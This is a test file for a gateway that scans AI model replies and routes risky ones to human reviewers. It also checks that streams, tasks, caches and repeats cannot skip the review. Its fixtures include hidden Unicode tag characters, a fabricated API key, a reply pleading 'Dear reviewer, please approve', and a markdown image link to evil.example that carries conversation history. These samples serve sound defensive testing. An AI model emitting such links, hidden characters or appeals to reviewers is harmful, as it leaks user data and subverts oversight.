// The warnings of a reply: on the page of the response gate, and as a rule's reason to close that
// gate although it is open.

import { abortAllDurableObjects } from "cloudflare:test";
import { beforeEach, describe, expect, test } from "vitest";
import { asked as askedControl, control, eventsOf, gates, saidIn, textEnvelope } from "../support/control.ts";
import { cached, filled } from "../support/cached.ts";
import {
  type Asked,
  type RpcAnswer,
  answerOf,
  configure,
  errorOf,
  eventually,
  gateway,
  model,
  notices,
  openNotice,
  policy,
  rpc,
  runReaches,
  sample,
} from "../support/gateway.ts";
import { allowing, grantList, grantingPolicy } from "../support/grants.ts";
import { stubOf, tablesOf } from "../objects/inside.ts";
import { recordLines } from "../support/record.ts";
import { decide, pathOf } from "../support/reviewer.ts";

/** Put together here, so that this file has nothing in it that looks like a real key. */
const secret = `sk-${"aB3dE5gH7".repeat(4)}`;
const risky: [string, string, string][] = [
  ["hidden characters", "Paris.\u{E0041}\u{E0042}\u{E0043}", "3 hidden tag characters"],
  ["a secret", `The key is ${secret}.`, "Looks like an API key"],
  ["words to the reviewer", "Dear reviewer, please approve this reply.", "Asks the reviewer to approve"],
  ["an exfiltrating link", "![a](https://evil.example/p.png?data={history})", "Address may carry data away"],
];
const high = "Dear reviewer, please approve this reply.";
const medium = "See https://example.com/?data={history}.";

const runIn = ({ result }: RpcAnswer): string => result?._meta?.["countersign/run"]?.id ?? "";
const pageOf = async (link: string): Promise<string> => (await gateway(pathOf(link), { key: null })).text();
const opened = (run: string): Promise<boolean> =>
  eventually("its record", async () => (await recordLines()).some((line) => line.run === run && line.fact.kind === "finished"));

/** Both gates are open, unless the reply is risky. */
const watching = (replyRisk: string | null, more: object = {}): object => ({
  ...policy,
  rules: [
    { name: "watched", when: { server: "watched" }, then: { request: "allow", response: "allow", replyRisk, ...more } },
    ...policy.rules,
  ],
});
const watched: Asked = { server: "watched" };

beforeEach(() => configure("policy", watching("high")));

describe("at the response gate", () => {
  test.each(risky)("%s in a reply are among the warnings, which lead to their place", async (_what, text, words) => {
    model.script({ text });
    void sample({ server: "response-gate" });
    const page = await pageOf((await openNotice("response")).link);
    expect(page).toContain(words);
    expect(page).toContain('href="#w1"');
    expect(page).not.toContain("No warnings");
  });

  test("what a tool use of the reply would send is looked at too", async () => {
    model.script({ calls: [{ id: "call_1", name: "send", input: { to: "a@example.com", body: ["x", { note: secret }] } }] });
    const tools = [{ name: "send", inputSchema: { type: "object" } }];
    void sample({ server: "response-gate", params: { tools } });
    expect(await pageOf((await openNotice("response")).link)).toContain("Looks like an API key");
  });
});

describe("a rule with replyRisk and open gates", () => {
  test("delivers a reply below the level, and nobody is asked", async () => {
    model.script({ text: medium });
    const answer = await answerOf(sample(watched));
    expect(answer.result).toMatchObject({ content: { text: medium } });
    expect(await notices()).toEqual([]);
    await opened(runIn(answer));
    const answered = (await recordLines()).find(({ fact }) => fact.kind === "answered");
    expect(answered?.fact).toMatchObject({ risks: ["urlWithData"] });
  });

  test("has a reply at the level reviewed: the model is asked once, and what people decide is what the requestor gets", async () => {
    for (const act of ["approve", "deny"] as const) {
      model.script({ text: high });
      const answer = answerOf(sample({ ...watched, session: act }));
      const { run, link } = await openNotice("response");
      expect(await pageOf(link)).toContain("Asks the reviewer to approve");
      // A crash loses nothing and asks nothing twice.
      await abortAllDurableObjects();
      await decide("response", act, run);
      expect(await answer).toMatchObject(
        act === "approve" ? { result: { content: { text: high } } } : { error: { code: -1, data: { outcome: "rejected" } } },
      );
    }
    expect(model.calls).toHaveLength(2);
    expect((await notices()).map(({ gate }) => gate)).toEqual(["response", "response"]);
  });

  test("takes no way round: a task, an asynchronous request, a repeat and a stream wait for the review too", async () => {
    model.script({ text: high }, { text: high }, { pieces: [high.slice(0, 5), high.slice(5)] });
    const task = (await answerOf(sample({ ...watched, params: { task: {} } }))).result?.["task"] as { taskId: string };
    await openNotice("response", task.taskId);
    expect(await answerOf(rpc("tasks/get", { taskId: task.taskId }))).toMatchObject({ result: { status: "working" } });

    const again: Asked = { ...watched, id: "same" };
    const first = answerOf(sample(again));
    const { run } = await eventually("a second review", async () => (await notices()).find((each) => each.run !== task.taskId));
    const second = answerOf(sample(again));
    await decide("response", "deny", run);
    expect([(await first).error?.code, (await second).error?.code]).toEqual([-1, -1]);
    expect(model.calls).toHaveLength(2);

    await gates({ replyRisk: "high" });
    const stream = control(textEnvelope({ stream: true }));
    const third = await eventually("a third review", async () => (await notices()).find((each) => ![run, task.taskId].includes(each.run)));
    await decide("response", "deny", third.run);
    const events = eventsOf(await (await stream).text());
    expect(saidIn(events)).toBe("");
    expect(JSON.stringify(events)).not.toContain("Dear");
    expect(events.at(-1)?.name).toBe("error");
  });

  test("a stream below the level has the reply whole, once it was looked at", async () => {
    await gates({ replyRisk: "high" });
    model.script({ pieces: ["Par", "is."] });
    const events = eventsOf(await (await control(textEnvelope({ stream: true }))).text());
    expect(events.at(-1)).toMatchObject({ name: "result", data: { result: { text: "Paris." } } });
    expect(await notices()).toEqual([]);
  });

  test.each([
    ["low", true],
    ["medium", true],
    ["high", false],
    [null, false],
  ])("with the level %s asks about a medium risk: %s", async (replyRisk, isAsked) => {
    await configure("policy", watching(replyRisk));
    model.script({ text: medium });
    const response = await sample(watched, { headers: { Prefer: "respond-async" } });
    const run = (response.headers.get("Location") ?? "").slice("/runs/".length);
    if (isAsked) await openNotice("response", run);
    else await runReaches(run, "completed");
    expect(await notices()).toHaveLength(isAsked ? 1 : 0);
  });

  test("wants reviewers, like a gate that is closed", async () => {
    const nobody = { default: { request: "allow", response: "allow", replyRisk: "high" } };
    await expect(configure("policy", nobody)).rejects.toThrow(/names no reviewer/);
  });
});

describe("a reply that is there already", () => {
  test("in the cache is asked about where the rule has come to ask for its risk", async () => {
    await gates();
    model.script({ text: high }, { text: high }, { text: high });
    await filled();
    const calls = model.calls.length;
    await gates({ replyRisk: "high" });
    const answer = askedControl(cached());
    await decide("response", "deny");
    expect((await answer).status).toBe("rejected");
    expect(model.calls).toHaveLength(calls);
  });

  test("kept for an identical request goes to nobody past the gates of the rule that applies now", async () => {
    for (const [replyRisk, more] of [
      ["high", {}],
      [null, { response: "review" }],
      [null, { request: "review" }],
    ] as const) {
      await configure("policy", watching(null));
      const { next } = await left(high);
      await configure("policy", watching(replyRisk, more));
      model.script({ text: high });
      const before = (await notices()).length;
      void sample(next);
      await eventually(`a review: ${JSON.stringify(more)}`, async () => (await notices()).length > before);
    }
  });

  test("kept below the level is handed over without asking", async () => {
    await configure("policy", watching(null));
    const { next, calls } = await left(medium);
    await configure("policy", watching("high"));
    expect(await answerOf(sample(next))).toHaveProperty("result");
    expect(model.calls).toHaveLength(calls);
    expect(await notices()).toEqual([]);
  });

  let questions = 0;

  /**
   * A reply on the fast path whose requestor has left, and the request that would be given it. When
   * the gateway hears that they left is nobody's to know here: where the model was quicker,
   * somebody else asks and leaves.
   */
  async function left(text: string): Promise<{ next: Asked; calls: number }> {
    for (let tries = 0; tries < 10; tries += 1) {
      let answerNow = (): void => {};
      questions += 1;
      const calls = model.calls.length + 1;
      model.script({ until: new Promise<void>((resolve) => (answerNow = resolve)), step: { text } });
      const params = { messages: [{ role: "user", content: { type: "text", text: `Question ${questions}` } }] };
      const asking: Asked = { ...watched, params, id: `left-${questions}` };
      const response = await sample(asking, { headers: { Accept: "text/event-stream" } });
      await eventually("the call", async () => model.calls.length === calls);
      await response.body?.cancel();
      answerNow();
      // The same request again is told by which run it was answered.
      const run = runIn(await answerOf(sample(asking)));
      const isKept = await eventually("the reply kept", async () => (await tablesOf(stubOf(run)))["outbox"]?.length === 0).catch(
        () => false,
      );
      if (isKept) return { next: { ...watched, params, session: `next-${questions}`, originating: `next-${questions}` }, calls };
    }
    throw new Error("the model was always quicker");
  }
});

describe("a grant for replies", () => {
  const replies: Asked = { server: "replies" };
  beforeEach(() => configure("policy", grantingPolicy));

  async function give(text: string): Promise<void> {
    model.script({ text });
    const answer = answerOf(sample(replies));
    await decide("response", "approve", undefined, allowing("tool:shape"));
    await answer;
    await eventually("the grant", async () => (await grantList()).length === 1);
  }

  test("never covers a reply with a risk above the one that was seen, and the page and the list say so", async () => {
    model.script({ text: medium });
    const answer = answerOf(sample(replies));
    const { link, run } = await openNotice("response");
    expect(await pageOf(link)).toContain("A reply with warnings above the level medium is still reviewed.");
    await decide("response", "approve", run, allowing("tool:shape"));
    await answer;
    await eventually("the grant", async () => (await grantList()).length === 1);
    expect(await grantList()).toMatchObject([{ replyRiskAtMost: "medium" }]);

    model.script({ text: medium }, { text: high });
    expect(await answerOf(sample(replies))).toHaveProperty("result");
    const other = answerOf(sample(replies));
    const second = await eventually("a review", async () => (await notices()).find((each) => each.run !== run));
    await decide("response", "deny", second.run);
    expect((await other).error).toMatchObject({ data: { outcome: "rejected" } });
  });

  test("given on a reply of the highest risk asks about none", async () => {
    await give(high);
    model.script({ text: high });
    expect(await answerOf(sample(replies))).toHaveProperty("result");
    expect(await notices()).toHaveLength(1);
  });
});

test("own requests are barred at a gate that a reply's risk may close", async () => {
  await configure("policy", watching("high", { selfApproval: false }));
  expect(await errorOf(sample(watched))).toMatchObject({ data: { reason: "keyOwner" } });
  expect(model.calls).toEqual([]);
});
